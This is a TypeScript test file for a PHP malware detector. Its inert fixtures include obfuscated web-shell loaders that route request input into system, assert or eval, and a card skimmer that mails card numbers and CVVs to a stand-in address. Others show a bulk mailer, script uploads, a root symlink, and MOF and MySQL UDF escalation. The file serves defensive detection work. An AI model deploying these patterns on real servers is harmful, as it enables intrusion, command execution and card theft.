/**
 * PHP data flow through constant folding: function names kept in arrays (literals, explode,
 * array_keys/array_diff, implode), handed to a helper as a constant parameter, or spelled by
 * string interpolation and called in place; the request body's name (`php://input`) and the
 * superglobals' names built from pieces; callbacks registered through session handlers, PDO
 * FETCH_FUNC and Closure::fromCallable. Each fixture is written for this test and is inert
 * text; each mechanism has a benign look-alike that must stay below malicious.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

const mal = (name: string, code: string): string[] => {
  const f = findingOf(name, code);
  assert.equal(f?.verdict, 'malicious', `${name}: ${reasons(f).join('; ')}`);
  return reasons(f);
};
const notMal = (name: string, code: string): void => {
  const f = findingOf(name, code);
  assert.notEqual(f?.verdict, 'malicious', `${name}: ${reasons(f).join('; ')}`);
};
// larger than the tiny-script rules' window, so only the data flow decides
const PAD = `/* ${'settings helper for the storefront theme; '.repeat(30)} */\n`;

test('php fold flow: a name picked out of a keyed array literal reaches the call', () => {
  const code = `<?php\n${PAD}$p = array('k1' => 'as', 'k2' => 'x', 'k3' => 'ert');\n$a = array_keys($p);\n$fn = $p['k1'] . 's' . $p['k3'];\n$fn($_POST['v']);\n`;
  assert.ok(mal('a.php', code).includes('data flow: request input reaches assert() called through a variable'));
  // the same shape spelling a string function
  notMal('a2.php', `<?php\n${PAD}$p = array('k1' => 'str', 'k3' => 'toupper');\n$fn = $p['k1'] . $p['k3'];\necho $fn($_POST['v']);\n`);
});

test('php fold flow: explode / array_diff / implode pieces and an element called in place', () => {
  const viaDiff = `<?php\n${PAD}$r = array_diff(['sy', 'zz', 'st', 'em'], ['zz']);\n$n = implode('', $r);\n$n($_GET['c']);\n`;
  assert.ok(mal('b.php', viaDiff).includes('data flow: request input reaches system() called through a variable'));
  const element = `<?php\n${PAD}$f = array_keys(['strlen' => 1, 'pass' . 'thru' => 2]);\n$f[1]($_REQUEST['c']);\n`;
  assert.ok(mal('c.php', element).includes('data flow: request input reaches passthru() called through a variable'));
  // a table of formatters: the element named is harmless
  notMal('c2.php', `<?php\n${PAD}$f = array_keys(['strlen' => 1, 'ucfirst' => 2]);\necho $f[1]($_REQUEST['c']);\n`);
});

test('php fold flow: a helper assembles the name from a constant parameter', () => {
  const code = `<?php\n${PAD}function run_it($b, $c) {\n  $b = strrev($b);\n  array_map(substr_replace($b, 'ss', 1, 0), array($c));\n}\nrun_it('trea', $_POST['x']);\n`;
  assert.ok(mal('d.php', code).includes('data flow: request input reaches assert() through array_map()'));
  // a filter helper handed a plain string function everywhere it is called
  notMal(
    'd2.php',
    `<?php\n${PAD}function apply_filter_fn($name, $v) {\n  return call_user_func($name, $v);\n}\necho apply_filter_fn('trim', $_POST['q']);\necho apply_filter_fn('trim', $_GET['r']);\n`,
  );
});

test('php fold flow: an interpolated name called in place', () => {
  const code = `<?php\n${PAD}$t = chr(115) . 'ystem';\n("$t")($_COOKIE['c']);\n`;
  assert.ok(mal('e.php', code).includes('data flow: request input reaches system() called through a computed name'));
  notMal('e2.php', `<?php\n${PAD}$t = 'html' . 'specialchars';\necho ("$t")($_COOKIE['c']);\n`);
});

test('php fold flow: the request body read through a decoded stream name', () => {
  const code = `<?php\n${PAD}$d = 'base' . '64_decode';\n$src = [$d('cGhwOi8vaW5wdXQ='), 'x'];\n$body = file_get_contents("$src[0]");\nclass Runner { function __construct($p) { eval($p . ''); } }\nnew Runner($body);\n`;
  assert.ok(mal('f.php', code).includes('data flow: request input reaches eval()'));
  // an API endpoint decoding its JSON body and echoing a field
  notMal('f2.php', `<?php\n${PAD}$d = 'base' . '64_decode';\n$body = json_decode(file_get_contents($d('cGhwOi8vaW5wdXQ=')), true);\necho htmlspecialchars($body['name']);\n`);
});

test('php fold flow: a superglobal named by a reversed string', () => {
  const code = `<?php\n${PAD}$n = strrev('TSOP_');\n$d = $$n;\n$x = $d['c'];\nshell_exec($x);\n`;
  assert.ok(mal('g.php', code).includes('data flow: request input reaches shell_exec()'));
  // variable variables over the page's own settings
  notMal('g2.php', `<?php\n${PAD}$n = strrev('eltit');\n$title = 'Home';\n$d = $$n;\nshell_exec('uptime');\necho $d;\n`);
});

test('php fold flow: session handler, PDO FETCH_FUNC and Closure::fromCallable callbacks', () => {
  const sess = `<?php\n${PAD}$h = chr(97) . 'ssert';\nfunction o() { return true; }\nsession_id($_REQUEST['op']);\nsession_set_save_handler('o', 'o', $h, 'o', 'o', 'o');\nsession_start();\n`;
  assert.ok(mal('h.php', sess).includes("data flow: assert() registered as a session handler runs the client's session id"));
  notMal(
    'h2.php',
    `<?php\n${PAD}function s_open() { return true; }\nfunction s_read($id) { return ''; }\nsession_id($_REQUEST['sid']);\nsession_set_save_handler('s_open', 's_open', 's_read', 's_open', 's_open', 's_open');\nsession_start();\n`,
  );
  const pdo = `<?php\n${PAD}$q = $_POST['q'];\n$st = $db->query("SELECT '$q'");\n$st->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));\n`;
  assert.ok(mal('i.php', pdo).includes('data flow: fetched rows are handed to assert() (PDO::FETCH_FUNC)'));
  notMal('i2.php', `<?php\n${PAD}$q = (int) $_POST['q'];\n$st = $db->query("SELECT name FROM t WHERE id = $q");\n$rows = $st->fetchAll(PDO::FETCH_FUNC, 'format_row');\n`);
  const clo = `<?php\n${PAD}$n = join(array_diff(['s', 'a', 'ys', 'tem'], ['a']));\nClosure::fromCallable($n)->__invoke($_GET['c']);\n`;
  assert.ok(mal('j.php', clo).includes('data flow: request input reaches system() through Closure::fromCallable()'));
  notMal('j2.php', `<?php\n${PAD}$n = join(['str', 'toupper']);\necho Closure::fromCallable($n)->__invoke($_GET['c']);\n`);
});

test('php recall: a tiny script calls a name it takes from its own file name', () => {
  const code = `<?php\n$filename = substr(__FILE__, -10, 6);\n$command = $_POST[1];\n$filename($command);\n`;
  assert.ok(mal('k.php', code).includes('tiny script hands request input to a function whose name it computes at runtime (one-line loader)'));
  // a closure the file defines
  assert.equal(findingOf('k2.php', `<?php\n$clean = function ($s) { return trim($s); };\n$v = $_POST['name'];\necho $clean($v);\n`), undefined);
});

test('php fold flow: request headers taken as a list, and superglobal keys spelled in pieces', () => {
  const list = `<?php\n${PAD}$a = array_values($_SERVER);\n$l = passthru($a[6]);\n`;
  assert.ok(mal('l.php', list).includes('data flow: request input reaches passthru()'));
  // counting the server's variables reads no value
  notMal('l2.php', `<?php\n${PAD}$a = array_keys($_SERVER);\necho count($a);\npassthru('uptime');\n`);
  const key = `<?php\n${PAD}$k = 'HTTP_' . 'X_CMD';\npassthru($_SERVER[$k]);\n`;
  assert.ok(mal('m.php', key).includes('data flow: request input reaches passthru()'));
  notMal('m2.php', `<?php\n${PAD}$k = 'SERVER_' . 'NAME';\npassthru('host ' . escapeshellarg($_SERVER[$k]));\n`);
  const glob = `<?php\n${PAD}$c = $GLOBALS[strrev('TSOP_')]['x'];\neval($c);\n`;
  assert.ok(mal('n.php', glob).includes('data flow: request input reaches eval()'));
});

test('php recall: a pasted list of addresses mailed line by line (bulk mailer)', () => {
  const code = `<?php\n$from = $_POST['from'];\n$subject = $_POST['subject'];\n$body = $_POST['body'];\n$list = explode("\\n", $_POST['emails']);\nforeach ($list as $to) {\n  mail(trim($to), $subject, $body, "From: $from");\n}\n`;
  assert.ok(mal('o.php', code).includes('mails every line of a request-supplied address list in a loop, subject and body from the request too (bulk mailer)'));
  // an invitation form: a few comma-separated friends
  const invite = `<?php\n$msg = $_POST['message'];\n$friends = explode(',', $_POST['friends']);\nforeach (array_slice($friends, 0, 3) as $to) {\n  mail(trim($to), 'An invitation', $msg);\n}\n`;
  notMal('o2.php', invite);
});

test('php fold flow: eval of a payload decoded through names spelled from a character table', () => {
  const payload = Buffer.from(`$x = 'rendered';\nfunction shown() { return strlen('abcdefghijklmnopqrstuvwxyz'); }\necho shown();\n`).toString('base64');
  const code = `<?php\n$t = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65');\n$GLOBALS['d'] = $t{0} . $t{1} . $t{2} . $t{3} . $t{4} . $t{5} . $t{6} . $t{7} . $t{8} . $t{9} . $t{10} . $t{11} . $t{12};\neval($GLOBALS['d']('${payload}'));\n`;
  const f = findingOf('p.php', code);
  assert.ok(reasons(f).includes('eval() runs code decoded from a constant through computed calls'), reasons(f).join('; '));
  // code assembled by plain concatenation is not hidden behind a decoder
  const plain = `<?php\n$a = '$x = 1; function shown() { return strlen("abcdefghijklmnopqrstuvwxyz0123456789"); }';\neval($a . ' echo shown();');\n`;
  assert.ok(!reasons(findingOf('p2.php', plain)).includes('eval() runs code decoded from a constant through computed calls'));
});

test('php recall: uploads kept as scripts, the root linked into the site, wrapped reads of client-named files', () => {
  const upload = `<form enctype="multipart/form-data" method="post"><input name="f" type="file"></form>\n<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], 'cache.php');\n`;
  assert.ok(mal('q.php', upload).includes('stores an uploaded file as a PHP script'));
  // an avatar stored under a fixed image name
  notMal('q2.php', `<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], 'avatars/' . intval($_POST['id']) . '.png');\n`);
  assert.ok(mal('r.php', `<?php\n@mkdir('sym');\nsymlink('/', 'sym/root');\necho 'done';\n`).includes("links the server's root folder into the web folder (symlink attack)"));
  const wrap = `<?php\n$file = $_GET['file'];\n$tmp = tempnam('/tmp', 'x');\nif (copy('compress.zlib://' . $file, $tmp)) { echo htmlspecialchars(file_get_contents($tmp)); }\n`;
  assert.ok(mal('s.php', wrap).includes('reads a request-chosen file through a stream wrapper (safe_mode / open_basedir bypass)'));
  // an import tool unpacking the gzip file the client uploaded
  const importer = `<?php\n$gz = $_FILES['dump']['tmp_name'];\n$sql = file_get_contents('compress.zlib://' . $gz);\necho strlen($sql);\n`;
  const wrapped = findingOf('s2.php', importer)?.evidence.find((e) => e.reason.startsWith('reads a request-chosen file through a stream wrapper'));
  assert.equal(wrapped?.weight, 7);
});

test('php recall: card number and security code mailed together (card skimmer)', () => {
  const skim = `<?php
class Pay_Model extends Base_Model {
  public function capture($payment) {
    $num = $payment->getCcNumber();
    $msg = "CC = " . $num . "\\n";
    $msg .= "cvv = " . $payment->getCcCid() . "\\n";
    mail(base64_decode('cGF5QGV4YW1wbGUuaW52YWxpZA=='), 'order', $msg);
    return $this->gateway->charge($num, $payment->getCcCid());
  }
}
`;
  assert.ok(mal('t.php', skim).includes('mails the card number together with its security code (card skimmer)'));
  // a payment module: card data to the gateway, only the last digits in the shop's mail
  const module = `<?php
class Pay_Model extends Base_Model {
  public function capture($payment) {
    $num = $payment->getCcNumber();
    $ok = $this->gateway->charge($num, $payment->getCcCid());
    $msg = 'Paid with the card ending ' . substr($num, -4);
    mail($this->shopAddress(), 'order', $msg);
    return $ok;
  }
}
`;
  notMal('t2.php', module);
});

test('php recall: files written through the database that the system then runs (MOF, UDF)', () => {
  const mof = `<?php\n$c = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);\n$name = 'c:/windows/system32/wbem/mof/x.mof';\n$mof = "#pragma namespace(\\"\\\\\\\\\\\\\\\\.\\\\\\\\root\\\\\\\\subscription\\") instance of CommandLineEventConsumer { CommandLineTemplate = \\"cmd /c " . $_POST['cmd'] . "\\"; };";\nmysqli_query($c, "select '$mof' into dumpfile '$name'");\n`;
  assert.ok(mal('u.php', mof).includes('writes a MOF file into the WMI folder through the database server (MOF escalation runs commands as SYSTEM)'));
  const udf = `<?php\n$c = mysqli_connect('localhost', 'root', $_POST['p']);\nmysqli_query($c, "select unhex('7f454c46') into dumpfile '/usr/lib/mysql/plugin/u.so'");\nmysqli_query($c, "create function sys_eval returns string soname 'u.so'");\n`;
  assert.ok(mal('v.php', udf).includes('writes a library through the database server and loads it as a MySQL function (UDF command execution)'));
  // a report exported to a file by the database server
  const report = `<?php\n$c = mysqli_connect('localhost', 'app', 'secret');\nmysqli_query($c, "select * from orders into dumpfile '/var/backups/orders.bin'");\n`;
  notMal('v2.php', report);
});
